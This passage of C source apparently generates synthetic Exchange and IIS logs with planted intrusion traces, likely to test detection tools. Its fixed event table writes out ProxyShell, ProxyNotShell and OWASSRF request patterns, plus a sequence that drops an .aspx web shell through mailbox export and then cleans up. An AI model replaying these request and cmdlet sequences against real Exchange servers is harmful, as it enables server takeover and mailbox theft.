     .ip = A_PS,
     .status = 401},
    {.when = "2021-03-04T14:02:15.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/autodiscover/autodiscover.json",
     .query = "@evil.test/powershell/?X-Rps-CAT=%TOKEN%&Email=autodiscover/"
              "autodiscover.json%3F@evil.test",
     .ua = "python-requests/2.26.0",
     .ip = A_PS,
     .status = 200},
    {.when = "2021-03-04T14:02:15.913Z",
     .kind = EV_RPSHTTP,
     .planted = true,
     .stem = "/Powershell",
     .user = "CONTOSO\\administrator",
     .ip = A_PS,
     .status = 200,
     .text = "?X-Rps-CAT=%TOKEN%&Email=autodiscover/autodiscover.json%3F@evil.test",
     .client = "Python PSRP Client",
     .name = "",
     .action = "Command"},
    {.when = "2021-03-04T14:02:31.208Z",
     .kind = EV_CMDLET,
     .planted = true,
     .user = "CONTOSO\\administrator",
     .name = "New-ManagementRoleAssignment",
     .text = "-Role \"Mailbox Import Export\" -User \"administrator@contoso.test\"",
     .client = ""},
    {.when = "2021-03-04T14:03:02.655Z",
     .kind = EV_CMDLET,
     .planted = true,
     .user = "CONTOSO\\administrator",
     .name = "New-MailboxExportRequest",
     .text = "-Mailbox \"administrator@contoso.test\" -IncludeFolders \"#Drafts#\" -ContentFilter "
             "\"(Subject -eq '7f3c1a')\" -FilePath "
             "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\s.aspx\"",
     .client = ""},
    {.when = "2021-03-04T14:03:40.031Z",
     .kind = EV_CMDLET,
     .planted = true,
     .user = "CONTOSO\\administrator",
     .name = "Remove-MailboxExportRequest",
     .text = "-Identity \"contoso.test/Users/Administrator\\MailboxExport\" -Confirm \"False\"",
     .client = ""},

    /* --- planted: the look-alike shell, polled while it lives and after it is gone ---------- */
    SHELL_GET("2021-03-05T03:06:27.696Z", A_POLL, "/owa/auth/RedirSuiteServerProxy.aspx", NULL,
              UA_CHROME_OLD, 200),
    SHELL_GET("2021-03-05T08:11:58.846Z", A_POLL, "/owa/auth/RedirSuiteServerProxy.aspx", NULL,
              UA_CHROME_OLD, 200),
    SHELL_GET("2021-03-08T20:37:27.118Z", A_POLL, "/owa/auth/RedirSuiteServerProxy.aspx", NULL,
              UA_CHROME_OLD, 302),

    /* --- planted: someone hunts for shells left by others, 2021-03-06 ----------------------- */
    SHELL_GET("2021-03-06T17:27:44.124Z", A_HUNT, "/owa/auth/Current/themes/errorFS.aspx", NULL,
              UA_CHROME_OLD, 302),
    SHELL_GET("2021-03-06T17:27:44.923Z", A_HUNT, "/owa/auth/RedirSuiteServerProxy.aspx", NULL,
              UA_CHROME_OLD, 200),
    SHELL_GET("2021-03-06T17:27:49.335Z", A_HUNT, "/owa/auth/ErrorAA.aspx", NULL, UA_CHROME_OLD,
              302),
    SHELL_GET("2021-03-06T17:27:50.622Z", A_HUNT, "/owa/auth/OutlookEN.aspx", NULL, UA_CHROME_OLD,
              302),
    SHELL_GET("2021-03-06T17:27:52.323Z", A_HUNT, "/owa/auth/zntwv.aspx", NULL, UA_CHROME_OLD, 302),
    SHELL_GET("2021-03-06T17:27:55.019Z", A_HUNT, "/owa/auth/shel90.aspx", NULL, UA_CHROME_OLD,
              302),
    SHELL_GET("2021-03-06T17:27:57.740Z", A_HUNT, "/owa/auth/one.aspx", NULL, UA_CHROME_OLD, 302),

    /* --- planted: ProxyNotShell (authenticated), 2021-03-07 --------------------------------- */
    {.when = "2021-03-07T09:14:05.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/autodiscover/autodiscover.json",
     .query = "@evil.test/powershell/?&Email=autodiscover/"
              "autodiscover.json%3F@evil.test&Protocol=Powershell",
     .ua = "python-requests/2.28.1",
     .ip = A_PNS,
     .user = "CONTOSO\\jsmith",
     .status = 200},

    /* --- planted: OWASSRF, 2021-03-07 ------------------------------------------------------- */
    {.when = "2021-03-07T16:40:12.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE | D_BE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/owa/mastermailbox%40outlook.com/powershell",
     .ua = UA_CHROME105,
     .ip = A_OWASSRF,
     .user = "CONTOSO\\jsmith",
     .status = 200,
     .be_stem = "/powershell",
     .be_query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
                 "ManagementShell;TargetServer=;PSVersion=5.1.17763.1007",
     .be_user = "CONTOSO\\jsmith",
     .be_status = 200},
    {.when = "2021-03-07T16:40:12.377Z",
     .kind = EV_RPSHTTP,
     .planted = true,
     .stem = "/powershell",
     .user = "CONTOSO\\jsmith",
     .ip = SERVER_IP,
     .status = 200,
     .text = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;"
             "TargetServer=;PSVersion=5.1.17763.1007",
     .client = "",
     .name = "",
     .action = "Command"},
};
#define NFIXED (sizeof fixed / sizeof fixed[0])

/* ------------------------------------------------------------------------------------------ */
/* The generator state                                                                        */

typedef struct gen {
    out o;
    const layout *lay;
    uint64_t seed;
    bool benign;
    bool story; /* --story: the intrusion's files beside its logs */
    bool scale;
    uint64_t target;      /* --scale: bytes wanted */
    int first_day, ndays; /* March days */
    sb row;               /* the row being built */
    char token[512];      /* the forged X-Rps-CAT value, URL-encoded */
    /* open files */
    member hp[P__COUNT];
    int hp_seq[P__COUNT];
    int64_t hp_hour[P__COUNT];
    member iis[2];
    const int *iis_fields[2];
    member ecp, oab, rpshttp, rpscmdlet;
    uint64_t events;
} gen;

static void put_w3c_header(gen *g, int site, int64_t t)
{
    sb *b = &g->row;
    sb_put(b,
           "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ");
    sb_w3c_date(b, t);
    sb_putc(b, ' ');
    sb_w3c_time(b, t);
    sb_put(b, "\r\n#Fields:");
    for (const int *f = g->iis_fields[site]; *f != W__END; f++) {
        sb_putc(b, ' ');
        sb_put(b, w3f_name[*f]);
    }
    sb_crlf(b);
    m_row(&g->o, &g->iis[site], b, INT64_MIN);
}

static const char *month_day(int64_t t, char out_[16], bool short_year)
{
    tm_parts p = split_ms(t);
    if (short_year)
        snprintf(out_, 16, "%02d%02u%02u", p.y % 100, p.mo, p.d);
    else
        snprintf(out_, 16, "%04d%02u%02u", p.y, p.mo, p.d);
    return out_;
}

/* IIS day file of a site (0: W3SVC1 front end, 1: W3SVC2 back end). */
static member *iis_file(gen *g, int site, int64_t t)
{
    member *m = &g->iis[site];
    if (!m->open) {
        char d[16], rel[512];
        snprintf(rel, sizeof rel, "%s/W3SVC%d/u_ex%s.log", g->lay->iis, site + 1,
                 month_day(t, d, true));
        m_open(&g->o, m, rel);
        g->iis_fields[site] = w3_default;
        put_w3c_header(g, site, t);
    }
    return m;
}

/* IIS writes a new directive block when the site restarts; on 2021-03-03 at 07:00 the front
 * end comes back with more fields (in IIS's order), on 2021-03-05 at 08:00 the back end with
 * the same ones. Called at the top of every hour. */
static void iis_restarts(gen *g, int64_t hour_start)
{
    tm_parts p = split_ms(hour_start);
    if (p.mo == 3 && p.d == 3 && p.h == 7 && g->iis[0].open) {
        g->iis_fields[0] = w3_extended;
        put_w3c_header(g, 0, hour_start + 1000);
    }
    if (p.mo == 3 && p.d == 5 && p.h == 8 && g->iis[1].open)
        put_w3c_header(g, 1, hour_start + 2000);
}

static void exch_header(gen *g, member *m, const char *logtype, const char *fields, bool bare_first,
                        int64_t t, const char *version)
{
    sb *b = &g->row;
    if (bare_first) {
        sb_put(b, fields);
        sb_crlf(b);
    }
    sb_put(b, "#Software: Microsoft Exchange Server\r\n#Version: ");
    sb_put(b, version);
    sb_put(b, "\r\n#Log-type: ");
    sb_put(b, logtype);
    sb_put(b, "\r\n#Date: ");
    sb_iso(b, t);
    sb_put(b, "\r\n#Fields: ");
    sb_put(b, fields);
    sb_crlf(b);
    m_row(&g->o, m, b, INT64_MIN);
}

/* Header variants of HttpProxy files (catalogue 1.3: both orders exist; duplicated and empty
 * column names were seen). Which file gets which is fixed by its name. */
enum hp_variant { HV_BLOCK, HV_BARE_FIRST, HV_DUPLICATE, HV_EMPTY };

static enum hp_variant hp_variant_of(int proto, int64_t hour)
{
    tm_parts p = split_ms(hour);
    if (proto == P_ECP && p.mo == 3 && p.d == 3 && p.h == 6)
        return HV_BARE_FIRST;
    if (proto == P_ECP && p.mo == 3 && p.d == 3 && p.h == 7)
        return HV_DUPLICATE;
    if (proto == P_OWA && p.mo == 3 && p.d == 6 && p.h == 17)
        return HV_EMPTY;
    return (p.d * 24 + p.h + (unsigned)proto) % 3 == 0 ? HV_BARE_FIRST : HV_BLOCK;
}

#define HP_ROLL_BYTES (10u << 20) /* Exchange starts HttpProxy_...-2.LOG past 10 MB */

static member *hp_file(gen *g, int proto, int64_t t)
{
    member *m = &g->hp[proto];
    int64_t hour = t - t % 3600000;
    if (m->open && (g->hp_hour[proto] != hour || m->bytes > HP_ROLL_BYTES)) {
        bool roll = g->hp_hour[proto] == hour;
        m_close(&g->o, m);
        g->hp_seq[proto] = roll ? g->hp_seq[proto] + 1 : 1;
    }
    if (!m->open) {
        if (g->hp_hour[proto] != hour)
            g->hp_seq[proto] = 1;
        g->hp_hour[proto] = hour;
        tm_parts p = split_ms(hour);
        char rel[512];
        snprintf(rel, sizeof rel, "%s/Logging/HttpProxy/%s/HttpProxy_%04d%02u%02u%02u-%d.LOG",
                 g->lay->exch, proto_dir[proto], p.y, p.mo, p.d, p.h, g->hp_seq[proto]);
        m_open(&g->o, m, rel);
        enum hp_variant v = hp_variant_of(proto, hour);
        char fields[2048];
        size_t n = 0;
        for (int i = 0; i < 74; i++) {
            const char *name = hp_fields[i];
            if (v == HV_DUPLICATE && i == 21)
                name = "HttpStatus"; /* in place of ErrorCode */
            if (v == HV_EMPTY && i == 24)
                name = ""; /* TargetServer */
            n += (size_t)snprintf(fields + n, sizeof fields - n, "%s%s", i ? "," : "", name);
        }
        exch_header(g, m, "HttpProxy Logs", fields, v == HV_BARE_FIRST, t, build_dotted(t));
    }
    return m;
}

static member *day_file(gen *g, member *m, int64_t t, const char *folder, const char *prefix,
                        const char *logtype, const char *fields, const char *version)
{
    if (!m->open) {
        char d[16], rel[512];
        snprintf(rel, sizeof rel, "%s/Logging/%s/%s%s-1.LOG", g->lay->exch, folder, prefix,
                 month_day(t, d, false));
        m_open(&g->o, m, rel);
        exch_header(g, m, logtype, fields, false, t, version);
    }
    return m;
}

static member *hour_file(gen *g, member *m, int64_t t, const char *folder, const char *prefix,
                         const char *logtype, const char *fields)
{
    if (!m->open) {
        tm_parts p = split_ms(t);
        char rel[512];
        snprintf(rel, sizeof rel, "%s/Logging/%s/%s%04d%02u%02u%02u-1.LOG", g->lay->exch, folder,
                 prefix, p.y, p.mo, p.d, p.h);
        m_open(&g->o, m, rel);
        exch_header(g, m, logtype, fields, true, t, build_dotted(t));
    }
    return m;
}

/* ------------------------------------------------------------------------------------------ */
/* Row writers                                                                                */

/* %ROOT% and %TOKEN% in table text. */
static void sb_expand(gen *g, sb *b, const char *s)
{
    for (; s && *s;) {
        if (strncmp(s, "%ROOT%", 6) == 0) {
            sb_put(b, g->lay->exch_win);
            s += 6;
        } else if (strncmp(s, "%TOKEN%", 7) == 0) {
            sb_put(b, g->token);
            s += 7;
        } else {
            sb_putc(b, *s++);
        }
    }
}

static void expand(gen *g, const char *s, char *dst, size_t cap)
{
    char *tmp = malloc(SB_CAP);
    if (!tmp)
        die("memory");
    sb t = {tmp, 0};
    sb_expand(g, &t, s);
    size_t n = t.n < cap - 1 ? t.n : cap - 1;
    memcpy(dst, tmp, n);
    dst[n] = 0;
    free(tmp);
}

/* Appends one HttpProxy row (with its CRLF) to b. */
static void build_hp(gen *g, const ev *e, rng *r, sb *b)
{
    char ua[512], query[2048], num[16][16], gi[1024];
    snprintf(ua, sizeof ua, "%s", e->ua ? e->ua : "");
    for (char *c = ua; *c; c++)
        if (*c == ',')
            *c = ' '; /* Exchange writes "(KHTML  like Gecko)" */
    query[0] = 0;
    if (e->query && *e->query) {
        query[0] = '?';
        expand(g, e->query, query + 1, sizeof query - 1);
    }
    bool proxied = (e->dest & D_BE) || e->status == 200 || e->status == 241;
    bool anon = !e->user;
    unsigned total = 3 + below(r, 40);
    for (int i = 0; i < 16; i++)
        snprintf(num[i], sizeof num[i], "%u", below(r, 1 + total / (i + 1)));
    snprintf(num[15], sizeof num[15], "%u", total);
    /* GenericInfo: the CAFE's timeline of the request. */
    sb gb = {gi, 0};
    sb_put(&gb, "BeginRequest=");
    sb_iso(&gb, e->t - total);
    sb_put(&gb, ";CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942062886;");
    if (proxied) {
        sb_put(&gb, "BeginGetResponse=");
        sb_iso(&gb, e->t - total + 1);
        sb_put(&gb, ";OnResponseReady=");
        sb_iso(&gb, e->t);
        sb_put(&gb, ";EndGetResponse=");
        sb_iso(&gb, e->t);
        sb_put(&gb, ";ProxyState-Complete=ProxyResponseData;");
    } else if (e->status == 302) {
        sb_put(&gb, "NoCookies=302 - GET/E14AuthPost;");
    }
    sb_put(&gb, "SharedCacheGuard=0;EndRequest=");
    sb_iso(&gb, e->t);
    sb_putc(&gb, ';');
    gi[gb.n] = 0;

    char status[8], bestatus[8];
    snprintf(status, sizeof status, "%d", e->status);
    snprintf(bestatus, sizeof bestatus, "%d", e->be_status ? e->be_status : e->status);
    char reqid[40], creq[40];
    guid_str(reqid, r);
    guid_str(creq, r);
    bool outlook = e->ua && strstr(e->ua, "Microsoft Outlook");

    const char *f[74] = {0};
    f[1] = reqid;
    f[2] = "15";
    f[3] = "1";
    f[4] = "2176";
    f[5] = build_rev(e->t);
    f[6] = outlook ? creq : "";
    f[7] = proto_dir[e->proto];
    f[8] = e->host;
    f[9] = e->stem;
    f[10] = e->action;
    f[11] = e->auth;
    f[12] = anon ? "false" : "true";
    f[13] = e->user;
    f[15] = e->anchor;
    f[16] = ua;
    f[17] = e->ip;
    f[18] = SERVER;
    f[19] = status;
    f[20] = proxied ? bestatus : "";
    f[22] = e->method;
    if (proxied) {
        f[23] = "Proxy";
        f[24] = e->anchor && strncmp(e->anchor, "ServerInfo~localhost", 20) == 0 ? "localhost"
                                                                                 : SERVER_FQDN;
        f[25] = "15.01.2176.000";
        f[26] = "IntraForest";
        f[30] = "0";
        f[31] = num[3];
        f[32] = num[4];
        f[35] = num[5];
        f[36] = "0";
        f[38] = "0";
        f[40] = "0";
        f[42] = "0";
        f[43] = num[6];
        f[45] = "0";
        f[46] = num[15];
        f[47] = "0";
        f[49] = num[7];
        f[50] = "0";
        f[51] = num[8];
        f[52] = "0";
        f[53] = "0";
        f[54] = "0";
        f[56] = "0";
        f[57] = num[15];
        f[59] = num[9];
        f[60] = num[10];
        f[61] = "0";
        f[62] = num[11];
        f[63] = num[15];
    } else {
        f[30] = "0";
        f[46] = num[15];
        f[63] = num[15];
    }
    f[27] = e->hint;
    f[65] = query;
    f[67] = gi;
    f[73] = proxied ? "CafeV1" : "";
    sb_iso(b, e->t);
    for (int i = 1; i < 74; i++) {
        sb_putc(b, ',');
        sb_csv(b, f[i]);
    }
    sb_crlf(b);
}

static void write_hp(gen *g, const ev *e, rng *r)
{
    member *m = hp_file(g, e->proto, e->t);
    build_hp(g, e, r, &g->row);
    m_row(&g->o, m, &g->row, e->t);
}

static void put_ua_plus(sb *b, const char *ua)
{
    if (!ua || !*ua) {
        sb_putc(b, '-');
        return;
    }
    for (; *ua; ua++)
        sb_putc(b, *ua == ' ' ? '+' : *ua);
}

static void write_iis(gen *g, const ev *e, rng *r, int site)
{
    member *m = iis_file(g, site, e->t);
    sb *b = &g->row;
    bool be = site == 1;
    const char *stem = be && e->be_stem ? e->be_stem : e->stem;
    const char *q = be && e->be_stem ? e->be_query : e->query;
    const char *user = be ? (e->be_user ? e->be_user : e->user) : e->user;
    int status = be && e->be_status ? e->be_status : e->status;
    int port = be ? 444 : (e->port ? e->port : 443);
    unsigned taken = 2 + below(r, 120);
    if (e->stem && strncmp(e->stem, "/Microsoft-Server-ActiveSync", 28) == 0 && e->query &&
        strstr(e->query, "Cmd=Ping"))
        taken = 60000 + below(r, 480000);
    for (const int *f = g->iis_fields[site]; *f != W__END; f++) {
        if (f != g->iis_fields[site])
            sb_putc(b, ' ');
        switch (*f) {
        case W_DATE:
            sb_w3c_date(b, e->t);
            break;
        case W_TIME:
            sb_w3c_time(b, e->t);
            break;
        case W_SITENAME:
            sb_put(b, be ? "Exchange+Back+End" : "Default+Web+Site");
            break;
        case W_COMPUTER:
            sb_put(b, SERVER);
            break;
        case W_SIP:
            sb_put(b, SERVER_IP);
            break;
        case W_METHOD:
            sb_put(b, e->method);
            break;
        case W_STEM:
            sb_put(b, stem);
            break;
        case W_QUERY:
            if (q && *q) {
                sb_expand(g, b, q);
            }
            if (be) {
                sb_put(b, "&CorrelationID=<empty>;&RequestId=");
                sb_guid(b, r);
            } else if (port != 80) {
                sb_put(b, "&CorrelationID=<empty>;&cafeReqId=");
                sb_guid(b, r);
                sb_putc(b, ';');
            } else if (!q || !*q) {
                sb_putc(b, '-');
            }
            break;
        case W_SPORT:
            sb_u(b, (uint64_t)port);
            break;
        case W_USER:
            sb_put(b, user ? user : "-");
            break;
        case W_CIP:
            sb_put(b, be ? SERVER_IP : e->ip);
            break;
        case W_VERSION:
            sb_put(b, "HTTP/1.1");
            break;
        case W_UA:
            put_ua_plus(b, e->ua);
            break;
        case W_REFERER:
            sb_put(b, e->referer ? e->referer : "-");
            break;
        case W_HOST:
            sb_put(b, be ? SERVER_FQDN ":444" : e->host);
            break;
        case W_STATUS:
            sb_u(b, (uint64_t)status);
            break;
        case W_SUBSTATUS:
            sb_putc(b, '0');
            break;
        case W_WIN32:
            sb_putc(b, '0');
            break;
        case W_SCBYTES:
            sb_u(b, 300 + below(r, 20000));
            break;
        case W_CSBYTES:
            sb_u(b, 200 + below(r, 3000));
            break;
        case W_TAKEN:
            sb_u(b, taken);
            break;
        }
    }
    sb_crlf(b);
    m_row(&g->o, m, b, e->t);
}

static void write_ecp(gen *g, const ev *e, rng *r)
{
    member *m = day_file(g, &g->ecp, e->t, "ECP/Server", "ECPServer", "ECP Server Log",
                         "TimeStamp,ServerName,EventId,EventData", "15.0.0.0");
    sb *b = &g->row;
    char data[4096];
    sb d = {data, 0};
    sb_put(&d, "S:TIME=");
    sb_u(&d, 5 + below(r, 300));
    sb_put(&d, ";S:SID=");
    sb_guid(&d, r);
    sb_putc(&d, ';');
    sb_expand(g, &d, e->text);
    sb_put(&d, ";S:REQID=;");
    if (e->url) {
        sb_put(&d, "S:URL=");
        sb_put(&d, e->url);
        sb_putc(&d, ';');
    }
    sb_put(&d, "S:REFERRER=;S:EX=;S:ACTID=");
    sb_guid(&d, r);
    sb_put(&d, ";S:RS=0;S:BLD=" BUILD_CU ".");
    sb_put(&d, build_rev(e->t));
    sb_put(&d, ";S:TNAME=<null>;S:TID=;S:USID=");
    sb_guid(&d, r);
    sb_put(&d, ";S:EDOID=;S:ACID=");
    data[d.n] = 0;
    sb_iso(b, e->t);
    sb_put(b, "," SERVER ",ECP.Request,");
    sb_csv(b, data);
    sb_crlf(b);
    m_row(&g->o, m, b, e->t);
}

/* The OABGeneratorLog line format is not published (catalogue 1.6); this is a stand-in in
 * the Exchange CSV family, with the phrase and the quoted path as Test-ProxyLogon reads them. */
static void write_oab(gen *g, const ev *e, rng *r)
{
    member *m =
        day_file(g, &g->oab, e->t, "OABGeneratorLog", "OABGeneratorLog_", "OABGenerator Log",
                 "DateTime,ProcessId,ThreadId,Level,Component,Message", build_dotted(e->t));
    sb *b = &g->row;
    char msg[2048];
    expand(g, e->text, msg, sizeof msg);
    sb_iso(b, e->t);
    sb_put(b, ",7348,");
    sb_u(b, 20 + below(r, 40));
    sb_put(b, strncmp(msg, "Download failed", 15) == 0 ? ",Warning," : ",Information,");
    sb_put(b, "OABGenerator,");
    sb_csv(b, msg);
    sb_crlf(b);
    m_row(&g->o, m, b, e->t);
}

static void write_rpshttp(gen *g, const ev *e, rng *r)
{
    member *m = hour_file(g, &g->rpshttp, e->t, "CmdletInfra/Powershell-Proxy/Http", "Rps_Http_",
                          "Rps Http Logs", rps_http_fields);
    sb *b = &g->row;
    char q[2048];
    expand(g, e->text, q, sizeof q);
    unsigned tt = 5 + below(r, 200);
    sb_iso(b, e->t);
    sb_putc(b, ',');
    sb_iso(b, e->t - tt);
    sb_putc(b, ',');
    sb_guid(b, r);
    sb_put(b, ",15,1,2176,");
    sb_put(b, build_rev(e->t));
    sb_put(b, ",,");
    sb_put(b, SERVER_FQDN);
    sb_putc(b, ',');
    sb_put(b, e->stem);
    sb_put(b, ",Kerberos,true,");
    sb_csv(b, e->user);
    sb_put(b, ",,,");
    sb_put(b, e->ip);
    sb_put(b, "," SERVER "," SERVER_FQDN ",");
    sb_u(b, (uint64_t)e->status);
    sb_put(b, ",0,,");
    sb_put(b, e->action);
    sb_putc(b, ',');
    sb_guid(b, r);
    sb_putc(b, ',');
    sb_csv(b, e->name);
    sb_putc(b, ',');
    sb_guid(b, r);
    sb_putc(b, ',');
    sb_guid(b, r);
    sb_put(b, ",False,False,");
    sb_u(b, 800 + below(r, 6000));
    sb_putc(b, ',');
    sb_csv(b, e->client);
    sb_putc(b, ',');
    sb_u(b, below(r, 60));
    sb_putc(b, ',');
    sb_u(b, 20000000 + below(r, 9000000));
    sb_putc(b, ',');
    sb_u(b, tt);
    sb_putc(b, ',');
    sb_u(b, tt);
    sb_putc(b, ',');
    sb_csv(b, q);
    sb_put(b, ",,");
    sb_put(b, "OnEndRequest.End.ContentType=application/soap+xml charset "
              "UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;");
    sb_put(b, ",");
    sb_crlf(b);
    m_row(&g->o, m, b, e->t);
}

static void write_cmdlet(gen *g, const ev *e, rng *r)
{
    member *m = hour_file(g, &g->rpscmdlet, e->t, "CmdletInfra/Powershell-Proxy/Cmdlet",
                          "Rps_Cmdlet_", "Rps Cmdlet Logs", rps_cmdlet_fields);
    sb *b = &g->row;
    unsigned tt = 4 + below(r, 900);
    bool health = e->client && strcmp(e->client, "ActiveMonitor") == 0;
    const char *f[67] = {0};
    char reqid[40], uniq[40], proc[8], thr[8], total[8];
    guid_str(reqid, r);
    guid_str(uniq, r);
    snprintf(proc, sizeof proc, "%u", 15000 + below(r, 900));
    snprintf(thr, sizeof thr, "%u", 20 + below(r, 90));
    snprintf(total, sizeof total, "%u", tt);
    f[2] = reqid;
    f[4] = "15";
    f[5] = "1";
    f[6] = "2176";
    f[7] = build_rev(e->t);
    f[8] = SERVER;
    f[9] = proc;
    f[10] = "w3wp#MSExchangePowerShellAppPool";
    f[11] = thr;
    f[12] = "en-US";
    f[14] = e->user;
    f[15] = health ? "S-1-5-21-1004336348-1177238915-682003330-1163"
                   : "S-1-5-21-1004336348-1177238915-682003330-500";
    f[18] = health ? "False" : "True";
    f[19] = e->client;
    f[20] = e->name;
    f[21] = e->text;
    f[22] = uniq;
    f[25] = "GCRandomly";
    f[26] = "False";
    f[27] = "contoso.test";
    f[28] = "DC01.contoso.test";
    f[29] = "DC01.contoso.test";
    f[30] = "DC01.contoso.test";
    f[44] = "1";
    f[55] = total;
    f[57] = "Success";
    f[66] = e->text;
    sb_iso(b, e->t);
    sb_putc(b, ',');
    sb_iso(b, e->t - tt);
    for (int i = 2; i < 67; i++) {
        sb_putc(b, ',');
        sb_csv(b, f[i]);
    }
    sb_crlf(b);
    m_row(&g->o, m, b, e->t);
}

static void emit(gen *g, const ev *e, rng *r)
{
    g->events++;
    switch (e->kind) {
    case EV_REQ:
        if ((e->dest & D_HP) && e->proto != P_NONE)
            write_hp(g, e, r);
        if (e->dest & D_FE)
            write_iis(g, e, r, 0);
        if (e->dest & D_BE)
            write_iis(g, e, r, 1);
        break;
    case EV_ECP:
        write_ecp(g, e, r);
        break;
    case EV_OAB:
        write_oab(g, e, r);
        break;
    case EV_RPSHTTP:
        write_rpshttp(g, e, r);
        break;
    case EV_CMDLET:
        write_cmdlet(g, e, r);
        break;
    }
}

/* ------------------------------------------------------------------------------------------ */
/* Benign traffic                                                                             */

static const char *const users[] = {
    "jdoe",   "asmith",    "bwong",     "cmartin", "dlee",     "eking",  "fgarcia", "gnguyen",
    "hpatel", "ijones",    "jkim",      "kbrown",  "lchen",    "mdavis", "nlopez",  "owilson",
    "pmoore", "qtaylor",   "randerson", "sthomas", "tjackson", "uwhite", "vharris", "wclark",
    "xlewis", "yrobinson", "zwalker",   "abaker",  "bhall",    "callen", "jsmith",  "exadmin"};
#define NUSERS (sizeof users / sizeof users[0])

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/14.0.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/14.0.3 Mobile/15E148 Safari/604.1"};

static const char *const outlooks[] = {
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5122; Pro)"};

static const char *const devices[][2] = {{"iPhone", "Apple-iPhone12C1/1805.212"},
                                         {"iPhone", "Apple-iPhone13C2/1804.121"},
                                         {"iPad", "Apple-iPad7C2/1805.212"},
                                         {"Outlook", "Outlook-iOS-Android/1.0"},
                                         {"SAMSUNGSMG973F", "Android-SAMSUNG-SM-G973F/101.10000"}};

static const char *const eas_cmds[] = {"Sync",           "Sync",     "Ping",
                                       "Ping",           "Ping",     "FolderSync",
                                       "ItemOperations", "SendMail", "GetItemEstimate"};

static const char *const owa_static[] = {
    "/owa/auth/" OWA_VER "/themes/resources/segoeui-regular.ttf",
    "/owa/auth/" OWA_VER "/themes/resources/segoeui-semibold.ttf",
    "/owa/auth/" OWA_VER "/themes/resources/favicon.ico",
    "/owa/auth/" OWA_VER "/themes/resources/owa_text_blue.png",
    "/owa/auth/" OWA_VER "/themes/resources/logon.css",
    "/owa/auth/" OWA_VER "/scripts/premium/flogon.js",
    "/owa/" OWA_VER "/scripts/boot.worldwide.0.mouse.js",
    "/owa/" OWA_VER "/resources/styles/0/boot.worldwide.mouse.css",
    "/owa/prem/" OWA_VER "/resources/images/0/sprite1.mouse.png"};

static const char *const owa_actions[] = {"GetFolder",
                                          "FindItem",
                                          "GetConversationItems",
                                          "GetItem",
                                          "FindConversation",
                                          "GetOwaUserConfiguration",
                                          "SubscribeToNotification",
                                          "GetCalendarView"};

static const char *const ecp_cmds[] = {
    "S:CMD=Get-Mailbox.Identity=$null",
    "S:CMD=Get-InboxRule",
    "S:CMD=Pipeline.1|Get-MailboxRegionalConfiguration",
    "S:CMD=Get-OwaVirtualDirectory.ADPropertiesOnly=$true.Identity=$null",
    "S:CMD=Get-ExchangeServer.Identity=$null",
    "S:CMD=Get-MailboxCalendarConfiguration",
    "S:CMD=Get-MessageTrackingReport"};

static const char *const admin_cmdlets[][2] = {
    {"Get-Mailbox", "-ResultSize \"Unlimited\""},
    {"Get-ExchangeServer", ""},
    {"Get-MailboxDatabase", "-Status \"True\""},
    {"Get-OwaVirtualDirectory", "-Server \"" SERVER "\""},
    {"Get-ManagementRoleAssignment", "-RoleAssignee \"exadmin\""},
    {"Set-Mailbox", "-Identity \"jdoe\" -ProhibitSendQuota \"10GB\""},
    {"Get-MessageTrackingLog", "-Start \"03/02/2021 08:00:00\" -ResultSize \"1000\""},
    {"Get-Queue", ""}};

#define HEALTH_USER "CONTOSO\\HealthMailbox8a1f2c3d4e5f4a6b9c0d1e2f3a4b5c6d"

/* Per-call scratch for strings a benign event points to. */
typedef struct scratch {
    char user[64], upn[64], query[768], stem[256], anchor[160], ip[24];
} scratch;

static void user_of(rng *r, scratch *s, unsigned *idx)
{
    unsigned i = below(r, NUSERS);
    *idx = i;
    snprintf(s->user, sizeof s->user, "CONTOSO\\%s", users[i]);
    snprintf(s->upn, sizeof s->upn, "%s@contoso.test", users[i]);
    uint64_t h = hash_str(users[i]);
    snprintf(s->ip, sizeof s->ip, "10.1.%u.%u", (unsigned)(10 + h % 8),
             (unsigned)(20 + (h >> 8) % 200));
    snprintf(s->anchor, sizeof s->anchor, "Smtp~%s", s->upn);
}

/* A request made before logging on: no user, no authentication, no anchor mailbox. */
static void anonymous(ev *e)
{
    e->user = NULL;
    e->auth = "";
    e->anchor = NULL;
}

/* A Remote PowerShell request running cmdlet name, and the rows it leaves in CmdletInfra:
 * Rps_Http after http_ms, Rps_Cmdlet (run as cmd_user with args, from client) after cmd_ms. */
static void ps_session(gen *g, const ev *e, rng *r, int http_ms, int cmd_ms, const char *name,
                       const char *cmd_user, const char *args, const char *client)
{
    char action[128], text[256];
    snprintf(action, sizeof action, "%s:Command", name);
    snprintf(text, sizeof text, "?%s", e->query);
    ev q = *e;
    q.action = action;
    emit(g, &q, r);
    ev h = {.t = e->t + http_ms,
            .kind = EV_RPSHTTP,
            .stem = "/powershell",
